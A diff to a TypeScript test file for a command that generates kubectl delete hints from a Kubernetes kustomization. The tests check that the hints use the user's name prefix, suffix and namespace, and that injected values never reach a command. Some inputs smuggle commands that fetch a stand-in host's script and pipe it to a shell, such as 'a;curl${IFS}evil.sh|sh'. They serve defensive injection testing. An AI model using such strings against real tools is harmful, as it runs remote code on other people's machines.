@@ -62,6 +62,33 @@ describe('edit --namespaced', () => {
     expect((await project.settings({ multigroup: true })).next).toEqual([]);
   });
 
+  it('names roles as the kustomization of the user does', async () => {
+    const project = await projectWithKinds();
+    const kustomization = 'config/default/kustomization.yaml';
+    project.edit(kustomization, 'namePrefix: test-operator-', 'namePrefix: acme-\nnameSuffix: -v2');
+    project.edit(kustomization, 'namespace: test-operator-system', 'namespace: acme');
+    const { next } = await project.settings({ namespaced: true });
+    expect(next).toContain('kubectl delete clusterrolebinding acme-manager-rolebinding-v2');
+    expect((await project.settings({ namespaced: false })).next).toContain(
+      'kubectl delete rolebinding acme-manager-rolebinding-v2 --namespace acme',
+    );
+  });
+
+  it.each(['namePrefix: "--all "', 'namePrefix: [curl]', 'namespace: "x; curl evil.sh"', 'nameSuffix: "\\n--all"'])(
+    'puts nothing of a kustomization with %s into a command',
+    async (line) => {
+      const project = await projectWithKinds();
+      const path = 'config/default/kustomization.yaml';
+      const others = project
+        .read(path)
+        .split('\n')
+        .filter((each) => !each.startsWith(line.split(':', 1)[0]!));
+      project.write(path, `${others.join('\n')}${line}\n`);
+      const { next } = await project.settings({ namespaced: true });
+      expect(next.join('\n')).not.toMatch(/--all|curl/);
+    },
+  );
+
   it.each([
     ['names with commands', roleOf('a;curl${IFS}evil.sh|sh')],
     ['names of several lines', roleOf('b\ncurl evil.sh')],
